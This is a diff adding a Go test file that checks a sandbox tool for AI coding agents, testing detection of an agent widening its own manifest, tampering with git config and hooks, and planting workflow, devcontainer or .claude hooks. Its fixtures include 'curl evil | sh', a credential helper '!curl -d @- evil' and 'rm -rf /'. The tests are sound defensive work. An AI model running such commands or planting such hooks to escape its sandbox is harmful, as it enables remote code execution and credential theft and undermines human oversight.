@@ -1,0 +1,195 @@
+package doctor
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/aboxhq/abox/internal/watch"
+)
+
+func TestManifestChangedSinceApproval(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	wantStatus(t, "manifest.approved (clean)", f.run(manifestApproved), OK)
+	// comments and formatting are not a change, as for `abox run`
+	f.manifest = "# a comment\n" + baseManifest
+	wantStatus(t, "manifest.approved (comment)", f.run(manifestApproved), OK)
+	// the agent widens its own next run
+	f.manifest = baseManifest + "env_secrets:\n  TOKEN: prod.token\n"
+	got := f.run(manifestApproved)
+	wantStatus(t, "manifest.approved", got, Fail)
+	if !strings.Contains(got.Detail, "+ env_secrets:") || !strings.Contains(got.Hint, "abox up") {
+		t.Errorf("finding %+v does not show the diff and name `abox up`", got)
+	}
+	if w, _ := got.Data["widening"].([]string); len(w) != 1 || !strings.Contains(w[0], "TOKEN") {
+		t.Errorf("widening = %v", got.Data["widening"])
+	}
+	wantStatus(t, "boundary.manifest-approved", boundaryResult(t, f, "boundary.manifest-approved").Finding, Fail)
+}
+
+func TestManifestNeverApproved(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	removeAll(t, f.project.Approved())
+	got := f.run(manifestApproved)
+	wantStatus(t, "manifest.approved", got, Fail)
+	if !strings.Contains(got.Hint, "`abox up`") {
+		t.Errorf("hint %q", got.Hint)
+	}
+}
+
+func TestPrintableLines(t *testing.T) {
+	got := printableLines("  a\n+ \x1b]0;pwned\x07\n- b\u202e\n")
+	if want := "  a\n+ \\x1b]0;pwned\\a\n- b\\u202e\n"; got != want {
+		t.Errorf("printableLines = %q, want %q", got, want)
+	}
+}
+
+// gitRepo makes the fixture's workspace a repository with a hook and a safe config.
+func gitRepo(f *fixture) {
+	f.writeWS(".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
+	f.writeWS(".git/hooks/pre-commit.sample", "#!/bin/sh\n")
+}
+
+func TestGitTamper(t *testing.T) {
+	tests := []struct {
+		name string
+		do   func(f *fixture)
+		want string
+	}{
+		{"planted hook", func(f *fixture) { f.writeWS(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n") }, "added hook post-checkout"},
+		{"fsmonitor set", func(f *fixture) {
+			f.writeWS(".git/config", "[core]\n\tbare = false\n\tFSMonitor = .git/x.sh\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
+		}, "added core.fsmonitor = .git/x.sh"},
+		{"hooksPath hidden by indentation", func(f *fixture) {
+			f.writeWS(".git/config", "[Core]\n\tbare = false\n\t\t\t\thooksPath = .githooks\n[remote \"origin\"]\n\turl = https://example.test/r.git\n")
+		}, "added core.hookspath = .githooks"},
+		{"credential helper by include", func(f *fixture) {
+			f.writeWS(".git/config", "[include]\n\tpath = ../notes.cfg\n")
+			f.writeWS("notes.cfg", "[credential]\n\thelper = !curl -d @- evil\n")
+		}, "credential.helper"},
+		{"sample hook is not a hook", func(f *fixture) { f.writeWS(".git/hooks/pre-push.sample", "x") }, ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := newFixture(t, baseManifest).healthy()
+			gitRepo(f)
+			wantStatus(t, "git.tamper (baseline)", f.run(gitTamper), OK)
+			tc.do(f)
+			got := f.run(gitTamper)
+			if tc.want == "" {
+				wantStatus(t, "git.tamper", got, OK)
+				return
+			}
+			wantStatus(t, "git.tamper", got, Fail)
+			if !strings.Contains(got.Detail, tc.want) || !strings.Contains(got.Hint, "abox doctor --accept-git") {
+				t.Errorf("finding %q / %q does not name %q and --accept-git", got.Detail, got.Hint, tc.want)
+			}
+			// --accept-git re-baselines, still reporting the change once
+			e := f.env()
+			e.AcceptGit = true
+			acc := gitTamper(context.Background(), e)
+			wantStatus(t, "git.tamper --accept-git", acc, Warn)
+			wantStatus(t, "git.tamper after accepting", f.run(gitTamper), OK)
+		})
+	}
+}
+
+func TestGitTamperFirstLookReportsWhatIsThere(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	f.writeWS(".git/config", "[alias]\n\tst = status\n")
+	got := f.run(gitTamper)
+	wantStatus(t, "git.tamper (first look)", got, Warn)
+	if !strings.Contains(got.Detail, "alias.st = status") {
+		t.Errorf("detail %q", got.Detail)
+	}
+	wantStatus(t, "git.tamper (second look)", f.run(gitTamper), OK)
+}
+
+func TestExecSurface(t *testing.T) {
+	tests := []struct {
+		name string
+		do   func(f *fixture)
+		want string
+	}{
+		{"poisoned workflow", func(f *fixture) {
+			f.writeWS(".github/workflows/ci.yml", "on: push\njobs: {x: {run: curl evil | sh}}\n")
+		}, "changed: .github/workflows/ci.yml"},
+		{"new workflow", func(f *fixture) { f.writeWS(".github/workflows/new.yml", "x") }, "added: .github/workflows/new.yml"},
+		{"symlink retargeted", func(f *fixture) { f.writeWS("Makefile", "->/tmp/evil.mk") }, "changed: Makefile (symlink → /tmp/evil.mk)"},
+		{"claude hook planted", func(f *fixture) { f.writeWS(".claude/settings.json", `{"hooks":{}}`) }, "added: .claude/settings.json"},
+		{"devcontainer planted", func(f *fixture) { f.writeWS(".devcontainer/devcontainer.json", `{"initializeCommand":"x"}`) }, "added: .devcontainer/devcontainer.json"},
+		{"custom watch", func(f *fixture) { f.writeWS("deploy.sh", "rm -rf /") }, "changed: deploy.sh"},
+		{"masked files are not watched", func(f *fixture) { f.writeWS(".env.local", "x") }, ""},
+		{"abox's own render is not a change", func(f *fixture) { f.render() }, ""},
+		{"the approved manifest is not a change", func(f *fixture) {
+			f.manifest = baseManifest + "mounts:\n  watch: [deploy.sh]\n# edited by `abox egress add`\n"
+			f.writeWS("agentbox.yaml", f.manifest)
+			f.approve()
+		}, ""},
+		{"an unapproved manifest is", func(f *fixture) { f.writeWS("agentbox.yaml", baseManifest+"egress: [x.example]\n") }, "changed: agentbox.yaml"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			f := newFixture(t, baseManifest+"mounts:\n  watch: [deploy.sh, .env.local]\n")
+			f.healthy()
+			f.writeWS(".github/workflows/ci.yml", "on: push\n")
+			f.writeWS("Makefile", "->make/real.mk")
+			f.writeWS("deploy.sh", "echo deploy")
+			f.writeWS(".env.local", "SECRET=1")
+			wantStatus(t, "exec-surface (baseline)", f.run(execSurface), OK)
+			tc.do(f)
+			got := f.run(execSurface)
+			if tc.want == "" {
+				wantStatus(t, "exec-surface", got, OK)
+				return
+			}
+			wantStatus(t, "exec-surface", got, Warn)
+			if !strings.Contains(got.Detail, tc.want) || !strings.Contains(got.Hint, "abox doctor --accept-watch") {
+				t.Errorf("finding %q / %q does not name %q and --accept-watch", got.Detail, got.Hint, tc.want)
+			}
+			e := f.env()
+			e.AcceptWatch = true
+			wantStatus(t, "exec-surface --accept-watch", execSurface(context.Background(), e), Warn)
+			wantStatus(t, "exec-surface after accepting", f.run(execSurface), OK)
+		})
+	}
+}
+
+func TestBaselinesArePrivate(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	gitRepo(f)
+	f.run(gitTamper)
+	f.run(execSurface)
+	st, err := os.Stat(f.project.Baselines())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.Mode().Perm() != 0o600 {
+		t.Errorf("baselines.json mode %v, want 0600", st.Mode().Perm())
+	}
+	b, err := watch.LoadBaseline(f.project.Baselines())
+	if err != nil || b.GitTS == "" || b.WatchTS == "" {
+		t.Errorf("baselines = %+v, %v; want both sections", b, err)
+	}
+}
+
+func TestReviewCopy(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	wantStatus(t, "artifacts.review-copy", f.run(artifactsReviewCopy), OK)
+	f.writeWS(".devcontainer/compose.yaml", "services: {agent: {privileged: true}}\n")
+	f.writeWS(".devcontainer/devcontainer.json", "{}")
+	got := f.run(artifactsReviewCopy)
+	wantStatus(t, "artifacts.review-copy", got, Warn)
+	if !strings.Contains(got.Detail, "compose.yaml (edited)") || !strings.Contains(got.Detail, "devcontainer.json (not written by abox)") {
+		t.Errorf("detail %q", got.Detail)
+	}
+}
+
+func TestArtifactsPrivate(t *testing.T) {
+	f := newFixture(t, baseManifest).healthy()
+	wantStatus(t, "boundary.artifacts-private", boundaryResult(t, f, "boundary.artifacts-private").Finding, OK)
+	os.Chmod(filepath.Join(f.project.Artifacts(), "agent"), 0o777)
+	wantStatus(t, "boundary.artifacts-private (0777)", boundaryResult(t, f, "boundary.artifacts-private").Finding, Fail)
+}
